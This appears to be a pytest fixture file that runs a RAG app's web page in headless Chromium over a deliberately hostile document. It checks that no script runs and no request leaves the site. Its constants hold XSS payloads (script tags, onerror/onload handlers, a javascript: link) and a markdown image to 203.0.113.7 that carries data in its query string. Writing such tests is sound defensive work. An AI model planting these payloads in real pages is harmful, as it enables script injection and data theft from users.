"""The page on a real socket over the ingested samples and a hostile document, and a real browser in front of it."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from bizrag.model.geometry import BoundingBox
from bizrag.model.parses import Block, BlockKind, Page, Parse, TableArtifact, TableCell
from tests.made import make_image

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext
    from playwright.sync_api import Page as Tab
    from sqlalchemy import Engine

    from bizrag.providers.local_embedding import LocalEmbedder
    from bizrag.settings import Settings
    from bizrag.store.blobs import BlobStore
    from bizrag.store.server import EmbeddedServer
    from query import QueryService

_PATIENCE_MS = 30_000
HOSTILE_NAME = "reports/<img src=x onerror=window.hacked=1>.pdf"
HOSTILE_COLLECTION = "evil'><script>window.hacked=2</script>"
HOSTILE_TEXT = (
    "The vault in Zyrkon holds 77 gold bars <script>window.hacked=3</script><img src=x onerror='window.hacked=4'>. "
    "See [the list](javascript:window.hacked=5) and ![proof](http://203.0.113.7/leak.png?bars=77)."
)
HOSTILE_CELL = "<svg onload=window.hacked=6> [free](http://203.0.113.7/)"


def hostile_parse(image_sha256: str) -> Parse:
    """A page whose texts try to run scripts and to send data away."""
    cells = tuple(
        TableCell(text=text, row_start=row, row_end=row + 1, col_start=0, col_end=1, is_header=row == 0)
        for row, text in enumerate(("Zyrkon vault", HOSTILE_CELL))
    )
    table = TableArtifact(
        ordinal=1,
        num_rows=2,
        num_cols=1,
        cells=cells,
        markdown=f"| Zyrkon vault |\n| --- |\n| {HOSTILE_CELL} |",
        caption="<b onmouseover=window.hacked=7>Vault</b>",
        page_no=1,
        bbox=BoundingBox(l=50, t=400, r=500, b=500),
    )
    texts = (
        (BlockKind.HEADING, "Vaults </title><script>window.hacked=8</script>"),
        (BlockKind.TEXT, HOSTILE_TEXT),
        (BlockKind.TABLE, "<<table_1>>"),
    )
    blocks = tuple(
        Block(
            ordinal=at,
            kind=kind,
            text=text,
            page_no=1,
            bbox=BoundingBox(l=50, t=100 + 100 * at, r=500, b=160 + 100 * at),
            level=1 if kind is BlockKind.HEADING else None,
        )
        for at, (kind, text) in enumerate(texts)
    )
    page = Page(
        page_no=1, width_pt=595, height_pt=842, text="\n\n".join(text for _, text in texts), image_sha256=image_sha256
    )
    return Parse(
        content_sha256="ab" * 32,
        parser_fingerprint="test",
        pages=(page,),
        blocks=blocks,
        tables=(table,),
        pictures=(),
    )


@pytest.fixture(scope="module")
def web_engine(
    server: EmbeddedServer, samples_engine: Engine, samples_blobs: BlobStore, minilm: LocalEmbedder
) -> Iterator[Engine]:
    """A copy of the samples' database, with a hostile document in a collection of its own."""
    from bizrag.store.indexes import get_index
    from tests.query.conftest import add
    from tests.store.cloned import cloned

    # a database with connections cannot be copied
    samples_engine.dispose()
    with cloned(server, "samples", "web") as engine:
        image = samples_blobs.put(make_image("white", size=(595, 842)), suffix=".png")
        with engine.begin() as conn:
            parse = hostile_parse(image)
            index = get_index(conn, "default")
            add(conn, index, minilm, HOSTILE_NAME, HOSTILE_COLLECTION, "<i>Vault</i> report.pdf", parse)
        yield engine


@pytest.fixture(scope="module")
def web_settings(
    web_engine: Engine, samples_blobs: BlobStore, weights_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> Settings:
    """Settings over that database, without any chat model."""
    from bizrag.settings import Settings

    return Settings(
        _env_file=None,
        home=tmp_path_factory.mktemp("web"),
        database_url=web_engine.url.render_as_string(hide_password=False),
        weights_path=weights_path,
        blob_url=samples_blobs.url,
    )


@pytest.fixture(scope="module")
def open_service(minilm: LocalEmbedder) -> Callable[[Settings], QueryService]:
    """Opens a query service whose weights are those that all tests share."""
    from bizrag.providers.embedders import Embedders
    from query import QueryService

    def opened(settings: Settings) -> QueryService:
        service = QueryService(settings)
        service.__dict__["embedders"] = Embedders(settings, lambda: service.engine, given=[minilm])
        return service

    return opened


@pytest.fixture(scope="module")
def web_service(web_settings: Settings, open_service: Callable[[Settings], QueryService]) -> Iterator[QueryService]:
    """What the page asks; tests ask it too, to know what the page should show."""
    with open_service(web_settings) as service:
        yield service


@pytest.fixture(scope="module")
def site(web_settings: Settings, web_service: QueryService) -> Iterator[str]:
    """The address of the page."""
    from query.http.app import create_app
    from tests.serving import serving

    with serving(create_app(web_settings, service=web_service)) as address:
        yield address


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """The Chromium of this machine, without its windows where it is packaged so: a tab costs a quarter. Nothing is
    downloaded.
    """
    from playwright.sync_api import expect, sync_playwright

    # a busy machine loads libraries and weights at the first question
    expect.set_options(timeout=_PATIENCE_MS)
    with sync_playwright() as playwright:
        program = shutil.which("chromium-headless-shell") or shutil.which("chromium")
        browser = playwright.chromium.launch(executable_path=program, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    """A browser that was never here before."""
    context = browser.new_context(viewport={"width": 1280, "height": 860}, reduced_motion="reduce")
    yield context
    context.close()


@pytest.fixture
def tab(context: BrowserContext, site: str) -> Iterator[Tab]:
    """A tab in which nothing may go wrong: no error, no refused script, no dialog, no request to another place."""
    tab = context.new_page()
    troubles = watched(tab, site)
    yield tab
    assert troubles == []


def watched(tab: Tab, site: str) -> list[str]:
    """What goes wrong in a tab, as it happens; an answer with an error status is none."""
    troubles: list[str] = []
    tab.on("pageerror", lambda error: troubles.append(str(error)))
    tab.on("dialog", lambda dialog: troubles.append(f"dialog {dialog.message}"))
    tab.on("request", lambda request: None if request.url.startswith(site) else troubles.append(request.url))
    tab.on(
        "console",
        lambda message: (
            troubles.append(message.text)
            if message.type == "error" and "Failed to load resource" not in message.text
            else None
        ),
    )
    return troubles
